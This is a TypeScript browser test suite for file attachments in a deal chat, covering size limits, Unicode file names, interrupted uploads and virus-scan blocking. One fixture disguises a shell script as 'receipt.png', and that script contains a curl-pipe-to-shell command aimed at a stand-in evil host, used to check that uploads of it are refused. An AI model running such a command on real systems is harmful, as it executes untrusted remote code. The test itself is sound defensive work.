// Files in a deal's chat: limits, interrupted uploads, file names in any script.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as assert from 'uvu/assert';
import { ALICE, BOB } from '../../scripts/demo/users.ts';
import { createBrowserSuite, type Phone } from '../harness/browser/suite.ts';
import { EICAR, startFakeHttpScanner } from '../server/files/fake-scanners.ts';
import { jpegOf, pictureWith } from '../server/files/samples.ts';
import {
  type Attachment,
  attachFile,
  expectText,
  messageList,
  messagesWith,
  openBothDealPages,
  openDealPage,
  pressButton,
  RED_PIXEL_PNG,
} from './deal-user-actions.ts';
import { startApprovedDeal, waitUntil } from './market-fixtures.ts';

const scanner = await startFakeHttpScanner();
const { scenario, run } = createBrowserSuite('deal files', {
  env: { SCAN_URL: scanner.url },
  timing: { RECONNECT_MS: 200 },
  isStill: true,
});

const MEGABYTE = 1024 * 1024;
/** Saves a file of this size with the container of a JPEG; resolves with its path. */
async function savePhoto(directory: string, name: string, bytes: number): Promise<string> {
  const path = join(directory, name);
  await writeFile(path, jpegOf(bytes));
  return path;
}
const createPicture = (name: string): Attachment => ({ name, mimeType: 'image/png', buffer: RED_PIXEL_PNG });

const openButton = ({ page }: Phone, name: string) =>
  page.getByRole('button', { name: `Open photo ${name}` });

scenario(
  'CHAT-02 a script with a picture’s name is refused, a photo of 10 MB is accepted, one byte more is refused',
  async (env) => {
    const { alice, bob } = await openBothDealPages(env);
    const directory = await mkdtemp(join(tmpdir(), 'kantor-photos-'));
    env.afterPhones(() => rm(directory, { recursive: true }));
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    await attachFile(alice, 'Photo', { name: 'receipt.png', mimeType: 'image/png', buffer: script });
    await expectText(alice, 'Only images and PDF files are supported.');
    await attachFile(alice, 'Photo', await savePhoto(directory, 'too-large.jpg', 10 * MEGABYTE + 1));
    await expectText(alice, 'The file is too large. At most 10 MB are allowed.');
    await attachFile(alice, 'Photo', await savePhoto(directory, 'large.jpg', 10 * MEGABYTE));
    await messagesWith(alice, '')
      .getByRole('img', { name: /^(Sent|Read)$/ })
      .waitFor();
    await openButton(bob, 'large.jpg').waitFor();
    assert.is(
      await messageList(bob)
        .getByRole('button', { name: /^Open photo/ })
        .count(),
      1,
      'and nothing else came',
    );
  },
);

scenario('CHAT-02 CHAT-06 names in Cyrillic, Arabic and emoji come back unchanged', async (env) => {
  const dealId = await startApprovedDeal(env, ALICE, BOB);
  const alice = await openDealPage(env, ALICE, dealId);
  const bob = await openDealPage(env, BOB, dealId, { version: '7.0', platform: 'tdesktop' });
  for (const name of [
    'Чек об оплате № 7.png',
    'إيصال الدفع.png',
    '🧾💶 receipt 👍🏽.png',
    "it's 100% «ok» ; #1.png",
  ]) {
    await attachFile(alice, 'Photo', createPicture(name));
    await openButton(bob, name).click();
    await bob.page.getByRole('dialog', { name, exact: true }).waitFor();
    const saving = bob.page.waitForEvent('download');
    await pressButton(bob, 'Download');
    assert.is((await saving).suggestedFilename(), name);
    await pressButton(bob, 'Close');
    await bob.page.getByRole('dialog').waitFor({ state: 'detached' });
  }
});

scenario('CHAT-02 CHAT-07 an interrupted upload is sent again, once; a discarded one is not', async (env) => {
  const { alice, bob } = await openBothDealPages(env);
  alice.problems.allow(/ERR_|\[WARN\]|Failed to load/);
  // Without a connection an upload lasts as long as the test needs.
  alice.cutConnection();
  await attachFile(alice, 'Photo', createPicture('first.png'));
  await pressButton(alice, 'Cancel upload');
  const failed = messagesWith(alice, '').filter({
    has: alice.page.getByRole('button', { name: 'Send again' }),
  });
  await failed.waitFor();
  await attachFile(alice, 'Photo', createPicture('second.png'));
  await alice.page.getByRole('button', { name: 'Cancel upload' }).click();
  await waitUntil(alice.page, 'both have stopped', async () => (await failed.count()) === 2);
  await failed.last().getByRole('button', { name: 'Discard' }).click();
  await waitUntil(alice.page, 'one is left', async () => (await failed.count()) === 1);
  alice.restoreConnection();
  await failed.getByRole('button', { name: 'Send again' }).click();
  await openButton(bob, 'first.png').waitFor();
  await failed.waitFor({ state: 'detached' });
  await alice.page.reload();
  await openButton(alice, 'first.png').waitFor();
  for (const phone of [alice, bob])
    assert.is(
      await messageList(phone)
        .getByRole('button', { name: /^Open photo/ })
        .count(),
      1,
    );
});

scenario(
  'FILE-03 the other party opens a file once it is checked; a dangerous one is blocked on both phones',
  async (env) => {
    const { alice, bob } = await openBothDealPages(env);
    const names = (name: string) => [openButton(alice, name), openButton(bob, name)] as const;
    try {
      scanner.behave = 'hang';
      await attachFile(alice, 'Photo', createPicture('first.png'));
      await expectText(bob, 'Checking the file…');
      const [ofAlice, ofBob] = names('first.png');
      assert.equal([await ofAlice.count(), await ofBob.count()], [1, 0], 'only its sender can open it');
      scanner.release();
      await ofBob.waitFor();
      const dangerous = pictureWith(Buffer.from(EICAR));
      await attachFile(alice, 'Photo', { name: 'second.png', mimeType: 'image/png', buffer: dangerous });
      for (const phone of [alice, bob]) await expectText(phone, 'Blocked: this file is dangerous');
      for (const button of names('second.png')) assert.is(await button.count(), 0);
    } finally {
      await scanner.close();
    }
  },
);

run();
